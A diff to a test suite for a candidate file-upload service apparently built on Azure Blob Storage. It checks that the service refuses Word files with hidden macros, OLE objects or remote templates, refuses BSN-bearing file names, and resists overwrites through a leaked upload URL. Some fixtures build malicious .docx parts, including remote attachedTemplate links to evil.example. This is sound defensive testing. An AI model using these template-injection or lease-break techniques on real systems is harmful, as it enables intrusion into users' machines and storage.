@@ -1,16 +1,29 @@
 import { afterEach, describe, expect, it } from "vitest";
 import { registeredTimers } from "../shared/http/timers.js";
 import { setClock } from "../shared/domain/clock.js";
-import { blobContainer, blobInfo, candidatePrefix } from "../shared/storage/blob.js";
+import { BLOB_CONTAINERS, blobBytesRead, blobContainer, blobInfo, candidatePrefix, copyToFiles, snapshotUpload } from "../shared/storage/blob.js";
+import { snapshotReadLink } from "../shared/storage/sas.js";
+import { cleanupUploads } from "../shared/services/uploads.js";
+import { HEAD_BYTES, TAIL_BYTES } from "../shared/domain/uploads.js";
+import { randomBytes } from "node:crypto";
 import { BlockBlobClient } from "@azure/storage-blob";
 import { container } from "../shared/data/cosmos.js";
 import { readUpload } from "../shared/data/uploads.js";
 import { employerUser, newMunicipality, sharedCandidate, signedUpCandidate } from "./support/factories.js";
-import { docx, DOCX_TYPE, exe, jpeg, mp4, pdf, png, zip } from "./support/files.js";
+import { contentTypes, docx, DOCX_TYPE, exe, jpeg, mp4, pdf, png, REL, rels, wordDocument, zip } from "./support/files.js";
 import { call } from "./support/http.js";
 import { complete, upload } from "./support/uploads.js";
 
 afterEach(() => setClock(undefined));
+
+/** The candidate's blobs in every container (uploads and verified files). */
+async function anyBlobsOf(m: string, id: string): Promise<string[]> {
+  const names: string[] = [];
+  for (const which of Object.keys(BLOB_CONTAINERS) as (keyof typeof BLOB_CONTAINERS)[]) {
+    for await (const b of (await blobContainer(which)).listBlobsFlat({ prefix: candidatePrefix(m, id) })) names.push(`${which}:${b.name}`);
+  }
+  return names;
+}
 
 async function blobsOf(m: string, id: string): Promise<string[]> {
   const names: string[] = [];
@@ -50,7 +63,7 @@ describe("uploads", () => {
 
     expect(res.status).toBe(422);
     expect(res.body.detail).toMatch(/not a Word/);
-    expect(await blobInfo((await readUpload(fake.ticket.uploadId))!.blobName)).toBeUndefined();
+    expect(await blobInfo((await readUpload(fake.ticket.uploadId))!.blobName, "candidateUploads")).toBeUndefined();
   });
 
   it("when a Word document carries macros, then it is refused and removed", async () => {
@@ -59,6 +72,100 @@ describe("uploads", () => {
     const res = await complete(c.token, macro.ticket.uploadId);
     expect(res.status).toBe(422);
     expect(res.body.detail).toMatch(/macros/);
+  });
+
+  it("when a Word document hides macros, objects or a remote template behind innocent part names, then 422 names the reason and the blob is gone", async () => {
+    const m = newMunicipality();
+    const c = await signedUpCandidate(m);
+    const plain = await upload(c.token, "cv", DOCX_TYPE, wordDocument());
+    expect((await complete(c.token, plain.ticket.uploadId)).status).toBe(200);
+    await call("DELETE", "/api/me/files/cv", { token: c.token });
+
+    const attacks: [string, Buffer, RegExp][] = [
+      [
+        "a renamed vbaProject.bin",
+        wordDocument({
+          "[Content_Types].xml": contentTypes('<Override PartName="/word/custom.dat" ContentType="application/vnd.ms-office.vbaProject"/>', "application/vnd.ms-word.document.macroEnabled.main+xml"),
+          "word/_rels/document.xml.rels": rels(`<Relationship Id="rId9" Type="${REL.vbaProject}" Target="custom.dat"/>`),
+          "word/custom.dat": "VBA",
+        }),
+        /macros/,
+      ],
+      [
+        "an embedded oleObject1.bin",
+        wordDocument({
+          "[Content_Types].xml": contentTypes('<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'),
+          "word/embeddings/oleObject1.bin": "OLE",
+        }),
+        /OLE\/ActiveX/,
+      ],
+      [
+        "an OLE object under another name",
+        wordDocument({
+          "[Content_Types].xml": contentTypes('<Override PartName="/word/embeddings/e1.dat" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'),
+          "word/embeddings/e1.dat": "OLE",
+        }),
+        /OLE\/ActiveX/,
+      ],
+      [
+        "a remote attachedTemplate",
+        wordDocument({
+          "word/_rels/settings.xml.rels": rels(`<Relationship Id="rId1" Type="${REL.attachedTemplate}" Target="https://evil.example/normal.dotm" TargetMode="External"/>`),
+        }),
+        /outside the file.*attachedtemplate/,
+      ],
+    ];
+    for (const [what, bytes, reason] of attacks) {
+      const { ticket } = await upload(c.token, "cv", DOCX_TYPE, bytes);
+      const res = await complete(c.token, ticket.uploadId);
+      expect(res.status, what).toBe(422);
+      expect(res.headers["content-type"], what).toBe("application/problem+json");
+      expect(res.body.detail, what).toMatch(reason);
+    }
+    expect(await anyBlobsOf(m, c.id)).toEqual([]);
+    expect((await call("GET", "/api/me/profile", { token: c.token })).body.files).toEqual({});
+  });
+
+  it("when a large Word document loads a remote template from a part in its middle, then a few range reads find it", async () => {
+    const m = newMunicipality();
+    const c = await signedUpCandidate(m);
+    const bytes = wordDocument({
+      "word/document.xml": randomBytes(30_000).toString("base64"),
+      "word/media/image1.png": randomBytes(600_000),
+      "word/_rels/settings.xml.rels": rels(`<Relationship Id="rId1" Type="${REL.attachedTemplate}" Target="\\\\evil.example\\t.dotm" TargetMode="External"/>`),
+      "word/media/image2.png": randomBytes(600_000),
+    });
+    const { ticket } = await upload(c.token, "cv", DOCX_TYPE, bytes);
+    const before = blobBytesRead();
+
+    const res = await complete(c.token, ticket.uploadId);
+
+    expect(res.status).toBe(422);
+    expect(res.body.detail).toMatch(/outside the file/);
+    // head, tail, and two small ranges (document.xml.rels, settings.xml.rels) of a 1.2 MB file
+    expect(blobBytesRead() - before).toBeLessThan(HEAD_BYTES + TAIL_BYTES + 8 * 1024);
+    expect(await anyBlobsOf(m, c.id)).toEqual([]);
+  });
+
+  it("when the file name holds a BSN, declared at the start or set on the PUT, then it is refused", async () => {
+    const m = newMunicipality();
+    const c = await signedUpCandidate(m);
+    const start = (fileName: string) => call("POST", "/api/me/uploads", { token: c.token, body: { kind: "cv", contentType: "application/pdf", size: 2000, fileName } });
+    for (const fileName of ["BSN 111222333.pdf", "１１１２２２３３３.pdf", "bsn_111.222.333.pdf"]) {
+      const refused = await start(fileName);
+      expect(refused.status, fileName).toBe(400);
+      expect(refused.body.errors, fileName).toEqual([{ path: "fileName", message: expect.stringMatching(/citizen service number/) }]);
+    }
+
+    // A client that sends another name in the blob's metadata than the one it declared.
+    const ok = await start("cv.pdf");
+    const put = await fetch(ok.body.uploadUrl, { method: "PUT", headers: { ...ok.body.headers, "x-ms-meta-filename": encodeURIComponent("BSN 111 222 333.pdf") }, body: pdf(2000) });
+    expect(put.status).toBe(201);
+    const res = await complete(c.token, ok.body.uploadId);
+
+    expect(res.status).toBe(422);
+    expect(res.body.detail).toMatch(/file name .*BSN/);
+    expect(await anyBlobsOf(m, c.id)).toEqual([]);
   });
 
   it("when a candidate starts many uploads and finishes none, then after ten more are refused with 429", async () => {
@@ -94,7 +201,7 @@ describe("uploads", () => {
     expect(r1.body.detail).toMatch(/not application\/pdf/);
     expect(r2.status).toBe(422);
     expect(r2.body.detail).toMatch(/3000 bytes arrived but 1000 were declared/);
-    expect(await blobsOf(m, c.id)).toEqual([]);
+    expect(await anyBlobsOf(m, c.id)).toEqual([]);
     expect((await call("GET", "/api/me/profile", { token: c.token })).body.files).toEqual({});
   });
 
@@ -126,17 +233,69 @@ describe("uploads", () => {
     expect((await complete(a.token, "20261128-not-an-upload")).status).toBe(404);
   });
 
-  it("when the still-valid upload URL is used again after completion, then the checked file cannot be changed", async () => {
-    const c = await signedUpCandidate(newMunicipality());
-    const bytes = pdf();
-    const { ticket } = await upload(c.token, "cv", "application/pdf", bytes);
-    await complete(c.token, ticket.uploadId);
+  it("when the still-valid upload URL breaks the lease and overwrites after completion, then download links still serve the verified bytes", async () => {
+    const m = newMunicipality();
+    const c = await sharedCandidate(m);
+    const employer = await employerUser(newMunicipality());
+    const bytes = pdf(1009);
+    const { ticket } = await upload(c.token, "cv", "application/pdf", bytes, { fileName: "cv.pdf" });
+    expect((await complete(c.token, ticket.uploadId)).status).toBe(200);
 
-    const overwrite = await fetch(ticket.uploadUrl, { method: "PUT", headers: ticket.headers, body: exe() });
+    // What the attacker does with the upload URL, exactly as it was handed out (create + write only).
+    expect(new URL(ticket.uploadUrl).searchParams.get("sp")).toBe("cw");
+    const lease = await fetch(`${ticket.uploadUrl}&comp=lease`, {
+      method: "PUT",
+      headers: { "x-ms-version": "2025-01-05", "x-ms-lease-action": "break", "x-ms-lease-break-period": "0" },
+    });
+    const overwrite = await fetch(ticket.uploadUrl, { method: "PUT", headers: ticket.headers, body: exe(5 * 1024 * 1024) });
 
-    expect(overwrite.status).toBe(412);
-    const link = await call("GET", `/api/candidates/${c.id}/files/cv`, { token: c.coach });
-    expect(Buffer.from(await (await fetch(link.body.url)).arrayBuffer()).equals(bytes)).toBe(true);
+    expect([202, 404]).toContain(lease.status); // 404: the upload itself is gone once verified
+    expect(overwrite.status).toBe(201); // the URL still writes, but only to the uploads container
+    for (const token of [c.coach, employer.token]) {
+      const link = await call("GET", `/api/candidates/${c.id}/files/cv`, { token });
+      expect(link.status).toBe(200);
+      expect(new URL(link.body.url).pathname).toContain(`/candidate-files/${m}/${c.id}/cv/${ticket.uploadId}`);
+      const download = await fetch(link.body.url);
+      const served = Buffer.from(await download.arrayBuffer());
+      expect(served.length).toBe(1009);
+      expect(served.equals(bytes)).toBe(true);
+    }
+    expect((await call("GET", `/api/candidates/${c.id}`, { token: c.coach })).body.files.cv).toMatchObject({ size: 1009, fileName: "cv.pdf" });
+
+    // What the URL wrote is never verified and goes with the hourly cleanup; the verified copy stays.
+    setClock({ now: () => new Date(Date.now() + 2 * 86_400_000) });
+    await cleanupUploads({ municipalityId: m });
+    expect(await anyBlobsOf(m, c.id)).toEqual([`candidateFiles:${candidatePrefix(m, c.id)}cv/${ticket.uploadId}`]);
+  });
+
+  it("when complete is called many times at once, then exactly one 200 and the others 409, never 500", async () => {
+    const m = newMunicipality();
+    const c = await signedUpCandidate(m);
+    const { ticket } = await upload(c.token, "photo", "image/jpeg", jpeg());
+
+    const answers = await Promise.all(Array.from({ length: 8 }, () => complete(c.token, ticket.uploadId)));
+
+    expect(answers.map((a) => a.status).sort()).toEqual([200, 409, 409, 409, 409, 409, 409, 409]);
+    expect((await readUpload(ticket.uploadId))!.status).toBe("completed");
+    expect(await anyBlobsOf(m, c.id)).toEqual([`candidateFiles:${candidatePrefix(m, c.id)}photo/${ticket.uploadId}`]);
+  });
+
+  it("when a verified file is over the synchronous copy limit, then it is copied asynchronously from the checked snapshot", async () => {
+    const m = newMunicipality();
+    const c = await signedUpCandidate(m);
+    const start = await call("POST", "/api/me/uploads", { token: c.token, body: { kind: "video", contentType: "video/mp4", size: 50_000, fileName: "pitch.mp4" } });
+    const bytes = mp4(50_000);
+    await fetch(start.body.uploadUrl, { method: "PUT", headers: start.body.headers, body: bytes });
+    const { blobName } = (await readUpload(start.body.uploadId))!;
+    const { etag } = (await blobInfo(blobName, "candidateUploads"))!;
+
+    const snapshot = await snapshotUpload(blobName, etag);
+    await fetch(start.body.uploadUrl, { method: "PUT", headers: start.body.headers, body: exe(50_000) }); // changed after the check
+    await copyToFiles((await snapshotReadLink(blobName, snapshot!, 5)).url, blobName, bytes.length, { syncMaxBytes: 0 });
+
+    expect(await snapshotUpload(blobName, etag)).toBeUndefined(); // no snapshot of another version than the checked one
+    const copied = await (await blobContainer("candidateFiles")).getBlobClient(blobName).downloadToBuffer();
+    expect(copied.equals(bytes)).toBe(true);
   });
 
   it("when the uploader takes a lease on the blob, then refusing and deleting still work", async () => {
@@ -150,7 +309,7 @@ describe("uploads", () => {
     expect((await complete(c.token, lie.ticket.uploadId)).status).toBe(422);
     expect((await complete(c.token, good.ticket.uploadId)).status).toBe(200);
     expect((await call("DELETE", "/api/me/files/photo", { token: c.token })).status).toBe(204);
-    expect(await blobsOf(m, c.id)).toEqual([]);
+    expect(await anyBlobsOf(m, c.id)).toEqual([]);
   });
 
   it("when a completion was cut off before its record was updated, then the cleanup keeps the file the profile points to", async () => {
@@ -162,9 +321,9 @@ describe("uploads", () => {
     await container("uploads").item(record.id, record.day).patch([{ op: "set", path: "/status", value: "pending" }]);
 
     setClock({ now: () => new Date(Date.now() + 2 * 86_400_000) });
-    await registeredTimers.find((t) => t.name === "uploadsCleanup")!.run({} as never);
+    await cleanupUploads({ municipalityId: m });
 
-    expect(await blobsOf(m, c.id)).toEqual([`${candidatePrefix(m, c.id)}cv/${ticket.uploadId}`]);
+    expect(await anyBlobsOf(m, c.id)).toEqual([`candidateFiles:${candidatePrefix(m, c.id)}cv/${ticket.uploadId}`]);
     expect(await readUpload(ticket.uploadId)).toBeUndefined();
   });
 
@@ -178,7 +337,7 @@ describe("uploads", () => {
     const res = await complete(c.token, second.ticket.uploadId);
 
     expect(res.body.files.photo.uploadId).toBe(second.ticket.uploadId);
-    expect(await blobsOf(m, c.id)).toEqual([`${candidatePrefix(m, c.id)}photo/${second.ticket.uploadId}`]);
+    expect(await anyBlobsOf(m, c.id)).toEqual([`candidateFiles:${candidatePrefix(m, c.id)}photo/${second.ticket.uploadId}`]);
   });
 
   it("when an employer may not see the candidate, then the file link is 404; once shared, 200", async () => {
@@ -215,13 +374,16 @@ describe("uploads", () => {
     const cleanup = registeredTimers.find((t) => t.name === "uploadsCleanup")!;
 
     const early = await cleanup.run({} as never);
+    const untouched = await readUpload(abandoned.ticket.uploadId);
+    // Later, for this municipality only: uploads of other test files running now stay untouched.
     setClock({ now: () => new Date(Date.now() + 2 * 86_400_000) });
-    const later = await cleanup.run({} as never);
+    const later = await cleanupUploads({ municipalityId: m });
 
     expect(early).toMatchObject({ removedBlobs: 0, failed: 0 });
+    expect(untouched).toMatchObject({ status: "pending" });
     expect(later).toMatchObject({ removedBlobs: expect.any(Number), failed: 0 });
     expect(await readUpload(abandoned.ticket.uploadId)).toBeUndefined();
     expect(await readUpload(kept.ticket.uploadId)).toBeUndefined();
-    expect(await blobsOf(m, c.id)).toEqual([`${candidatePrefix(m, c.id)}photo/${kept.ticket.uploadId}`]);
+    expect(await anyBlobsOf(m, c.id)).toEqual([`candidateFiles:${candidatePrefix(m, c.id)}photo/${kept.ticket.uploadId}`]);
   });
 });
